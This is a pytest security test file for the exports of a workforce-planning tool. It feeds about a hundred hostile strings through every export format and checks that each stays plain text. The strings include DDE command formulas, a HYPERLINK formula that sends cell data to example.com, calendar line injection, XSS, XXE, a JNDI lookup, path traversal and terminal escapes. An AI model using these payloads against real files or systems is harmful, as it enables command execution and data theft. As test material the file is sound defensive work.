"""Payloads in every text of a plan, in every export: none of them becomes more than a text."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from dataclasses import replace
from pathlib import Path
from uuid import NAMESPACE_URL, uuid5
from zipfile import ZipFile

import openpyxl
import pytest
import typer
from icalendar import Calendar

from wfplan.cli import export_end
from wfplan.cli.talk import Talk
from wfplan.domain.external_ids import ExternalIds
from wfplan.domain.offers import OfferKind, OpenShift
from wfplan.errors import ExportRefusedError, WfplanError
from wfplan.export import Note, exported, target_names, write
from wfplan.exporting import Asked, Handed

PAYLOADS = (
    # formulas, DDE and links of spreadsheets
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "@SUM(cmd|' /C calc'!A0)", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "\";=1+1", "\",=1+1,\"",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")", "=IMPORTXML(\"http://example.com\",\"//a\")",
    "='[http://example.com/x.xlsx]Sheet'!A1", "=WEBSERVICE(\"http://example.com\")", "_x003D_1+1",
    "http://example.com", "file:///etc/passwd", "mailto:eve@example.com", "internal:Sheet!A1",
    "{=1+1}", "<r><t>rich</t></r>", "%0A-3+3", "&D&T&Fheader",
    # lines and properties of calendars
    "x\r\nATTENDEE:mailto:eve@example.com", "x\nBEGIN:VALARM\nACTION:DISPLAY\nEND:VALARM",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil", "x\rURL:http://example.com", "x\\nURL:http://x",
    "x\u2028URL:http://example.com", "x\u0085URL:http://example.com", "x\r\n ATTACH:http://x",
    ";TZID=Evil:20260101T000000", "a:b;c=d,e", "\"quoted\":value",
    # delimiters
    "a|b|c", "a\\|b", "a,b,c", "a;b;c", "a\tb\tc", "quote\"quote", "quote'quote", "~|METADATA|x",
    "x\nMERGE|ScheduleRequest|evil", "x\nDELETE|ScheduleEvent|evil", "a\x1fb\x1eb",
    # documents
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</script><svg onload=1>",
    "&lt;b&gt;", "&xxe;", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "]]>", "<![CDATA[x]]>",
    "\",\"admin\":true,\"x\":\"", "\\u0000", "{\"$ref\":\"http://x\"}", "${jndi:ldap://x}",
    "{{7*7}}",
    # terminals
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://example.com\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred", "\x1bP+q\x1b\\", "\x08\x08\x08rm", "\x7f", "\x00", "a\x00b", "\x0b", "\x0c",
    # paths and names of files
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "~/x", ".", "..", "con",
    "nul.txt", "x" * 300, "a/b", "a:b", "*?<>|",
    # writing that turns round, or is not what it looks like
    "\u202egpj.exe", "\u2066x\u2069", "\u202dx\u202c", "ａｂｃ", "\u0430da", "e\u0301" * 20,
    "\ufffe", "🙂",
)  # fmt: skip
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
"""What commands a terminal, or turns the direction of writing; a new line is judged apart."""
FORMULA = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
FILE = re.compile(r"[A-Za-z0-9_][A-Za-z0-9._-]*")
EVENT = {
    "UID", "SEQUENCE", "DTSTAMP", "LAST-MODIFIED", "DTSTART", "DTEND", "SUMMARY", "STATUS",
    "TRANSP", "CLASS", "CATEGORIES", "LOCATION", "DESCRIPTION", "X-WFPLAN-SHIFT-ID",
    "X-WFPLAN-AGENT-ID", "X-WFPLAN-SHIFT-DATE", "X-WFPLAN-REVISION", "X-WFPLAN-STATE",
    "X-WFPLAN-ACTIVITY",
}  # fmt: skip
CALENDAR = {
    "VERSION", "PRODID", "CALSCALE", "METHOD", "NAME", "X-WR-CALNAME", "REFRESH-INTERVAL",
    "X-WFPLAN-AGENT-ID",
}  # fmt: skip


def active_in(name, raw, events=None):
    """What of a file is more than a text: faults, none where all is well."""
    kind = name.rpartition(".")[2]
    if not FILE.fullmatch(name) or len(name) > 120:
        yield f"{name!r} is no name of a file"
    if kind == "zip":
        with ZipFile(io.BytesIO(raw)) as parts:
            for part in parts.namelist():
                yield from active_in(part, parts.read(part))
    elif kind == "gz":
        yield from active_in(name.removesuffix(".gz"), gzip.decompress(raw))
    else:
        look = {"xlsx": in_workbook, "ics": in_calendar, "csv": in_table, "json": in_document,
                "dat": in_pipes}[kind]  # fmt: skip
        if kind != "xlsx" and CONTROL.search(raw.decode().replace("\r\n", "\n")):
            yield f"{name}: has control characters"
        if name == "manifest.json":  # names shifts as they are
            json.loads(raw)
            return
        yield from (f"{name}: {fault}" for fault in look(raw))


def in_workbook(raw):
    """Formulas, links, and whatever a workbook can load or run."""
    with ZipFile(io.BytesIO(raw)) as parts:
        for name in parts.namelist():
            text = parts.read(name)
            if re.search(rb"<f[ >/]|hyperlink|oleObject|ddeLink|<!ENTITY x|<!DOCTYPE", text):
                yield f"{name} has a formula or a link"
            if re.search("vba|external|connections|query|embed", name):
                yield f"{name} is there"
    for sheet in openpyxl.load_workbook(io.BytesIO(raw)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    if FORMULA.match(cell.value) and cell.number_format != "@":
                        yield f"{sheet.title}!{cell.coordinate} is not kept as a text"
                    if CONTROL.search(cell.value):
                        yield f"{sheet.title}!{cell.coordinate} has control characters"


def in_calendar(raw):
    """Properties, components and lines that nobody asked for."""
    if raw.count(b"\r\n") != raw.count(b"\n") or raw.count(b"\r\n") != raw.count(b"\r"):
        yield "a line ends within a line"
    if any(len(line) > 75 for line in raw.split(b"\r\n")):
        yield "a line is too long"
    calendar = Calendar.from_ical(raw)
    if set(calendar) - CALENDAR:
        yield f"properties {set(calendar) - CALENDAR}"
    for part in calendar.subcomponents:
        if part.name == "VEVENT":
            if set(part) - EVENT or part.subcomponents:
                yield f"properties {set(part) - EVENT}"
            if not re.fullmatch(r"[0-9a-f-]{36}", str(part["UID"])) or part.errors:
                yield f"{part['UID']}, {part.errors}"
        elif part.name != "VTIMEZONE":
            yield f"a {part.name}"


def in_table(raw):
    """Cells that a spreadsheet runs, cells more or fewer, and lines within cells."""
    text = raw.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    for row in rows:
        if len(row) != len(header):
            yield f"{len(row)} cells instead of {len(header)}"
        for cell in row:
            if FORMULA.match(cell) and not NUMBER.fullmatch(cell):
                yield f"{cell!r} is a formula"
            if CONTROL.search(cell) or "\n" in cell:
                yield f"{cell!r} has control characters"


def in_document(raw):
    """Keys that nobody asked for, keys twice, and control characters in texts."""
    faults = []

    def pairs(found):
        names = [name for name, _ in found]
        if len(set(names)) < len(names):
            faults.append(f"keys twice: {names}")
        faults.extend(f"the key {name!r}" for name in names if name in ("admin", "$ref"))
        values = (
            one for _, value in found for one in (value if isinstance(value, list) else [value])
        )
        texts = (one for one in values if isinstance(one, str) and one != "\r\n")
        faults.extend(f"{one!r} has control characters" for one in texts if CONTROL.search(one))
        return dict(found)

    json.loads(raw.decode("utf-8"), object_pairs_hook=pairs)
    yield from faults


def in_pipes(raw):
    """Fields and lines more than a layout has."""
    text = raw.decode("utf-8-sig")
    wanted = {}
    for line in text.splitlines():
        fields = re.sub(r"\\.", "", line).split("|")  # what is escaped ends nothing
        if fields[0] == "METADATA":
            wanted[fields[1]] = len(fields)
        elif fields[0] not in ("MERGE", "DELETE", "COMMENT", "SET"):
            yield f"a line of its own: {line[:60]!r}"
        elif fields[0] in ("MERGE", "DELETE") and len(fields) != wanted.get(fields[1]):
            yield f"{len(fields)} fields instead of {wanted.get(fields[1])}: {line[:60]!r}"


def shift_of(synthetic, agent_id, payload, number):
    """A shift whose ids and codes are a payload."""
    day = synthetic.WEEK
    whole = synthetic.shift(agent_id, day, 480, (120, "ON_QUEUE"), (60, "ON_QUEUE"), (60, "REST"))
    work, other, rest = whole.activities
    other = other.model_copy(
        update={"code": payload, "category": "training", "activity_id": payload}
    )
    return whole.model_copy(
        update={"shift_id": f"{payload}{number}", "activities": (work, other, rest)}
    )


def everywhere(synthetic):
    """A plan in which every person has a payload of her own in all that is said of her."""
    agents, shifts, offers = [], [], []
    for number, payload in enumerate(PAYLOADS):
        agent_id = f"A{number:03}"
        agents.append(
            synthetic.agent(
                agent_id, name=payload, team=payload, site=payload, email=f"{payload}@example.com"
            )
        )
        shifts.append(shift_of(synthetic, agent_id, payload, number))
        start, end = shifts[-1].start, shifts[-1].end
        kind = OfferKind.OPEN_SHIFT
        offers.append(OpenShift(kind, "", payload, payload, start, end, 1.0, 4.0, None, payload))
    agents.append(synthetic.agent("Z999"))  # at the plan's own site, as open shifts are
    before = synthetic.schedule(shifts=tuple(shifts))
    now = synthetic.schedule(shifts=tuple(shifts[::2]))  # every other one is cancelled
    return synthetic.order(
        problem=synthetic.problem(agents=tuple(agents), name="Bank"), schedule=now,
        previous=before, open_shifts=tuple(offers),
    )  # fmt: skip


@pytest.fixture(scope="module", params=target_names())
def made(request, synthetic):
    """The files and notes of a target, of a plan full of payloads."""
    order = everywhere(synthetic)
    ids = synthetic.ids(order, request.param)
    try:
        return request.param, exported(request.param, replace(order, ids=ids))
    except ExportRefusedError:  # some systems take whole numbers only
        numbers = {key: str(int(text[:6], 16)) for key, text in ids.known.items()}
        return request.param, exported(request.param, replace(order, ids=ExternalIds(numbers)))


def test_there_are_at_least_sixty_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_no_payload_of_people_and_shifts_is_active(made):
    _, (files, _) = made
    assert len(files) > 1
    assert [fault for file, raw in files.items() for fault in active_in(file, raw)] == []


def test_no_event_is_lost_or_added(synthetic):
    files, _ = exported("ics", everywhere(synthetic))
    for begin, most in (("agent_", 1), ("site_", len(PAYLOADS))):
        raws = [raw for file, raw in files.items() if file.startswith(begin)]
        found = [len(Calendar.from_ical(raw).walk("VEVENT")) for raw in raws]
        assert sum(found) == len(PAYLOADS)
        assert max(found) <= most


def test_all_files_are_inside_the_folder(made, tmp_path):
    _, (files, _) = made
    folder = tmp_path / "deep" / "out"
    folder.parent.mkdir()
    write(folder, files)
    assert {path.name for path in folder.iterdir()} == set(files)
    assert [path.name for path in tmp_path.iterdir()] == ["deep"]
    assert [path.name for path in folder.parent.iterdir()] == ["out"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_of_a_plan_its_ids_and_people_who_left_is_active(synthetic, payload):
    """Where a target refuses the payload, nothing is written; what it says commands nothing."""
    shifts = synthetic.schedule().shifts
    left = shift_of(synthetic, payload, payload, 1)  # by somebody whom the plan does not know
    schedule = synthetic.schedule(schedule_id=payload, shifts=(shifts[0], left))
    problem = synthetic.problem(name=payload or "x", site=payload)
    order = synthetic.order(problem=problem, schedule=schedule)
    for name in target_names():
        ids = ExternalIds(
            {key: f"{payload}{uuid5(NAMESPACE_URL, str(key)).hex[:6]}"
             for key in synthetic.ids(order, name).known}
        )  # fmt: skip
        try:
            files, _ = exported(name, replace(order, ids=ids))
        except ExportRefusedError:
            continue
        found = [fault for file, raw in files.items() for fault in active_in(file, raw)]
        assert found == [], name


def said(capsys, monkeypatch, *, is_json, fails=None):
    """What the terminal gets of an export whose notes, files and faults hold payloads."""
    ids = tuple(PAYLOADS)
    notes = tuple(Note(payload, (payload, *ids), (payload,)) for payload in PAYLOADS)

    def hand_over(run, folder, asked, *, is_dry):
        if fails is not None:
            raise fails
        counts = dict.fromkeys(export_end.Change, 1)
        return Handed((folder / "x.csv",), notes, counts, schedule(), 4)

    def schedule():
        from wfplan.domain.schedule import Schedule

        return Schedule(schedule_id="x", timezone="UTC", first_day="2026-10-19", days=7)

    monkeypatch.setattr(export_end, "hand_over", hand_over)
    talk = Talk("export", is_json=is_json, is_quiet=False)
    asked = Asked("csv", since="published")
    try:
        export_end.export(talk, Path("run"), Path("out"), asked, is_dry=False)
    except WfplanError as error:
        with pytest.raises(typer.Exit):
            talk.fail(error)
    captured = capsys.readouterr()
    return captured.out + captured.err


@pytest.mark.parametrize("is_json", [False, True])
def test_nothing_that_an_export_says_commands_the_terminal(capsys, monkeypatch, is_json):
    text = said(capsys, monkeypatch, is_json=is_json)
    assert "calc" in text
    assert not CONTROL.search(text)


@pytest.mark.parametrize("is_json", [False, True])
def test_nothing_that_a_refused_export_says_commands_the_terminal(capsys, monkeypatch, is_json):
    faults = "\n".join(f"agent '{payload}' has no id" for payload in PAYLOADS)
    text = said(capsys, monkeypatch, is_json=is_json, fails=ExportRefusedError(faults))
    assert "calc" in text
    assert not CONTROL.search(text)
